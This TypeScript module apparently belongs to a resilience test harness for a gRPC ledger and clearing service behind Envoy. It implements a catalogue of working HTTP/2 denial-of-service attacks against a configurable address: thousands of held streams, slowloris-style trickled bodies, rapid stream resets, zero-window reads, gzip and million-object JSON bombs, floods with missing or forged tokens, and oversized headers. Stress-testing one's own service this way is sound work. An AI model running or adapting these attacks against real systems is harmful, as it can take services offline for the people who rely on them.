import { once } from "node:events";
import { type ClientHttp2Session, connect, type OutgoingHttpHeaders } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import type { AttackOptions } from "./attack.ts";

const watchHealth = "/grpc.health.v1.Health/Watch";
const subscribe = "/sovr.eventstream.v1.EventStreamService/Subscribe";
const listAssets = "/sovr.ledger.v1.LedgerService/ListAssets";
const clear = "/sovr.clearing.v1.ClearingService/Clear";
const clearBatch = "/sovr.clearing.v1.ClearingService/ClearBatch";

/** A frame of gRPC around a message without content. */
const emptyFrame = Buffer.alloc(5);
const grpc = { "content-type": "application/grpc", te: "trailers" };
const json = { "content-type": "application/json" };

/** What an attack has at hand. It holds what it opened until it is stopped. */
export class Attacker {
  /** How often each answer came: `grpc-status` or the HTTP status, or the code of a reset. */
  readonly answers: Record<string, number> = {};
  readonly authorized: OutgoingHttpHeaders;
  readonly #options: AttackOptions;
  readonly #sessions = new Set<ClientHttp2Session>();
  #isStopped = false;

  constructor(options: AttackOptions) {
    this.#options = options;
    this.authorized = { authorization: `Bearer ${options.token}` };
  }

  get isStopped(): boolean {
    return this.#isStopped;
  }

  async connect(
    settings: { readonly initialWindowSize?: number } = {},
  ): Promise<ClientHttp2Session> {
    const session = connect(`http://${this.#options.address}`, { settings });
    session.on("error", () => undefined);
    this.#sessions.add(session);
    session.once("close", () => this.#sessions.delete(session));
    await Promise.race([once(session, "remoteSettings"), once(session, "close")]).catch(
      () => undefined,
    );
    return session;
  }

  /** Sends a request; without a body it stays open. Resolves when it was answered or is over. */
  async ask(
    session: ClientHttp2Session,
    path: string,
    headers: OutgoingHttpHeaders,
    body?: Uint8Array,
  ): Promise<void> {
    if (session.closed || session.destroyed) return this.#count("no connection");
    const stream = session.request({ ":method": "POST", ":path": path, ...headers });
    stream.on("error", () => undefined);
    stream.once("response", (answer) =>
      this.#count(String(answer["grpc-status"] ?? answer[":status"])),
    );
    stream.resume();
    if (body === undefined) stream.write(emptyFrame);
    else stream.end(body);
    // Refused or reset, it is over either way.
    await Promise.race([once(stream, "response"), once(stream, "close")]).catch(() => undefined);
  }

  /** Runs a round again and again, with a pause between, until the attack stops. Resolves after the first. */
  async repeat(pauseMs: number, round: () => Promise<unknown>): Promise<void> {
    await round();
    void (async () => {
      while (!this.#isStopped) {
        await sleep(pauseMs);
        if (!this.#isStopped) await round();
      }
    })();
  }

  stop(): void {
    this.#isStopped = true;
    for (const session of this.#sessions) session.destroy();
  }

  #count(answer: string): void {
    this.answers[answer] = (this.answers[answer] ?? 0) + 1;
  }
}

/** So many at once of what `make` makes, each with its number. */
function many(count: number, make: (index: number) => Promise<unknown>): Promise<unknown> {
  return Promise.all(Array.from({ length: count }, (_, index) => make(index)));
}

const perConnection = 100;

/** Opens streams that stay, a hundred on a connection. */
async function hold(
  attacker: Attacker,
  connections: number,
  path: string,
  headers: OutgoingHttpHeaders,
  body?: Uint8Array,
): Promise<void> {
  await many(connections, async () => {
    const session = await attacker.connect();
    await many(perConnection, () => attacker.ask(session, path, headers, body));
  });
}

/** Requests that begin and do not come: each byte is one more than was there before. */
async function trickle(attacker: Attacker): Promise<void> {
  await many(4, async () => {
    const session = await attacker.connect();
    const streams = Array.from({ length: perConnection }, () =>
      session
        .request({ ":method": "POST", ":path": clear, ...grpc, ...attacker.authorized })
        .on("error", () => undefined)
        .resume(),
    );
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(1 << 20, 1);
    for (const stream of streams) stream.write(prefix);
    await attacker.repeat(1_000, async () => {
      for (const stream of streams) if (!stream.destroyed) stream.write("x");
    });
  });
}

async function resetMany(attacker: Attacker): Promise<void> {
  await attacker.repeat(100, async () => {
    const session = await attacker.connect();
    for (let count = 0; count < perConnection && !session.destroyed; count += 1) {
      const stream = session.request({
        ":method": "POST",
        ":path": listAssets,
        ...grpc,
        ...attacker.authorized,
      });
      stream.on("error", () => undefined);
      stream.end(emptyFrame);
      stream.close(8);
    }
    // So that they are on their way before the connection goes; Envoy may have ended it already.
    if (!session.destroyed) {
      const sent = new Promise<void>((resolve) => session.ping(() => resolve()));
      await Promise.race([sent, sleep(200)]);
    }
    session.destroy();
  });
}

/** Asks for answers, and never makes room for a byte of one. */
async function readNothing(attacker: Attacker): Promise<void> {
  await many(2, async () => {
    const session = await attacker.connect({ initialWindowSize: 0 });
    const headers = { ...grpc, ...attacker.authorized };
    await many(perConnection, () => attacker.ask(session, listAssets, headers, emptyFrame));
  });
}

async function bomb(attacker: Attacker): Promise<void> {
  const zeros = gzipSync(Buffer.alloc(64 << 20));
  const objects = Buffer.from(`{"requests":[${"{},".repeat(1_000_000)}{}]}`);
  const zipped = { ...json, ...attacker.authorized, "content-encoding": "gzip" };
  const session = await attacker.connect();
  await attacker.repeat(200, () =>
    Promise.all([
      attacker.ask(session, listAssets, zipped, zeros),
      attacker.ask(session, clearBatch, { ...json, ...attacker.authorized }, objects),
    ]),
  );
}

/** What is tried. Each resolves when it is in full swing, and goes on by itself. */
export const attacks = {
  "a thousand watches of health without a token": (attacker) =>
    hold(attacker, 11, watchHealth, grpc, emptyFrame),
  "two thousand streams of one subject": (attacker) =>
    hold(attacker, 20, subscribe, { ...grpc, ...attacker.authorized }, emptyFrame),
  "hundreds of requests that trickle": trickle,
  // Several times what is let through, and not so much that the flood itself takes the processor from everybody.
  "a flood without a token": async (attacker) => {
    const session = await attacker.connect();
    await attacker.repeat(100, () =>
      many(perConnection / 2, () => attacker.ask(session, listAssets, grpc, emptyFrame)),
    );
  },
  "a flood with tokens that are no good": async (attacker) => {
    const session = await attacker.connect();
    let count = 0;
    await attacker.repeat(100, () =>
      many(perConnection / 2, () => {
        count += 1;
        const authorization = `Bearer e30.e30.${count}`;
        return attacker.ask(session, listAssets, { ...grpc, authorization }, emptyFrame);
      }),
    );
  },
  "streams that are reset as soon as they are there": resetMany,
  "answers that nobody reads": readNothing,
  "bombs of zeros and of objects": bomb,
  "headers as large as can be": async (attacker) => {
    const session = await attacker.connect();
    const headers = { ...grpc, ...attacker.authorized };
    await attacker.repeat(100, () =>
      many(10, (index) =>
        attacker.ask(
          session,
          listAssets,
          { ...headers, "x-large": "x".repeat(index % 2 === 0 ? 28_000 : 60_000) },
          emptyFrame,
        ),
      ),
    );
  },
} as const satisfies Readonly<Record<string, (attacker: Attacker) => Promise<void>>>;

export type AttackName = keyof typeof attacks;
